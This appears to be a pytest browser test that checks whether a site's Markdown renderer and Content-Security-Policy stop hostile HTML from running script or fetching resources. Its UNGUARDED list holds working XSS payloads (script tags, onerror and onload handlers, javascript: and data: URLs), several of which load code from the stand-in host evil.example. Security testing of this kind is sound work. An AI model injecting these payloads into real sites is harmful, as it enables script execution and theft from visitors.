"""Hostile Markdown, opened in Chromium: nothing runs, nothing is fetched. Rendered, it
leaves the site's policy nothing to refuse; as it stands, the policy alone holds it."""

from urllib.parse import quote

import pytest

from articles.markdown import render
from tests.hostile.markdown import hostile_cases

ATTACKS = """
  window.pwned = () => { window.ran = true };
  window.alert = window.prompt = window.confirm = window.pwned;
"""

HTML = {"Content-Type": "text/html; charset=utf-8"}
# What the corpus has only in parts: without a policy each of these runs or fetches.
UNGUARDED = {
    "inline script": "<script>pwned()</script>",
    "script from elsewhere": "<script src='https://evil.example/a.js'></script>",
    "script as data": "<script src='data:text/javascript,pwned()'></script>",
    "handler": "<img src=x onerror=pwned()>",
    "frame with a script": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "script address": "<iframe src='javascript:parent.pwned()'></iframe>",
    "drawing": "<svg onload=pwned()></svg>",
    "style": "<style>@import 'https://evil.example/a.css';</style>",
    "picture": "<img src=https://evil.example/a.png>",
    "object": "<object data='https://evil.example/a.swf'></object>",
    "base": "<base href='https://evil.example/'><script src='/a.js'></script>",
}

# No policy keeps a link or a form from leading to another page: the test stays.
STAY = """
  for (const type of ["click", "submit"])
    addEventListener(type, (event) => event.preventDefault(), { capture: true });
"""
REFRESH = "http-equiv"  # leads away too

# Do to every element what a reader, or an animation, could do to it.
POKE = """
() => {
  for (const { contentDocument } of document.querySelectorAll("iframe"))
    for (const element of contentDocument.querySelectorAll("main *"))
      for (const type of ["click", "mouseover", "focus", "toggle", "error", "load"]) {
        // A plain link may lead elsewhere once it is clicked; script may not run.
        if (type === "click" && /^(https?|mailto|tel):/.test(element.href)) continue;
        element.dispatchEvent(new Event(type, { bubbles: true, cancelable: true }));
      }
}
"""
# The frames of which a document is true.
WHICH = """
(is) => [...document.querySelectorAll("iframe")]
  .filter(frame => eval(is)(frame.contentWindow))
  .map(frame => frame.title)
"""
RAN = "(window) => window.ran"
MARKED = "({ document }) => document.querySelector('main [name], main [style]')"


@pytest.fixture
def open_frames(page, site):
    """Opens each text as a document of its own, in a frame of one page, and pokes it.
    Returns the addresses beyond these that were asked for; none is answered."""

    def open_all(texts: dict[str, str], policy: str = "") -> list[str]:
        asked = []
        bodies = {
            f"{site}/raw/{quote(name)}": f"<!doctype html><main>{text}</main>"
            for name, text in texts.items()
        }
        frames = [
            f'<iframe title="{name}" src="{url}"></iframe>'
            for name, url in zip(texts, bodies, strict=True)
        ]

        def answer(route) -> None:
            url = route.request.url
            if url == f"{site}/frames/":
                route.fulfill(body="".join(frames), headers=HTML)
            elif url in bodies:
                headers = HTML | {"Content-Security-Policy": policy}
                route.fulfill(body=bodies[url], headers=headers)
            else:
                asked.append(url)
                route.abort()

        page.on("dialog", lambda dialog: dialog.dismiss())
        page.add_init_script(ATTACKS)
        page.route("**/*", answer)
        page.goto(f"{site}/frames/")
        page.evaluate(POKE)
        return asked

    return open_all


def test_hostile_markdown_runs_nothing_and_fetches_nothing(page, open_frames):
    cases = hostile_cases()

    fetched = open_frames({name: render(text) for name, text in cases.items()})

    assert page.evaluate(WHICH, RAN) == []
    assert page.evaluate(WHICH, MARKED) == []
    assert fetched == []
    assert len(cases) >= 200


@pytest.mark.lets_the_policy_refuse
def test_what_no_sanitizer_has_seen_is_held_by_the_policy_alone(
    page, site, client, open_frames
):
    policy = client.get("/about/")["Content-Security-Policy"]
    assert "; frame-ancestors 'none'" in policy  # which alone would keep out all of it
    cases = {
        name: text
        for name, text in (hostile_cases() | UNGUARDED).items()
        if REFRESH not in text.lower()
    }
    page.add_init_script(STAY)

    sent = open_frames(cases, policy.replace("; frame-ancestors 'none'", ""))

    assert page.evaluate(WHICH, RAN) == []
    assert [url for url in sent if not url.startswith(site)] == []


def test_without_a_policy_each_of_these_runs_or_fetches(page, open_frames):
    fetched = open_frames(UNGUARDED)

    ran = page.evaluate(WHICH, RAN)
    assert len(ran) + len({url for url in fetched if "evil" in url}) == len(UNGUARDED)
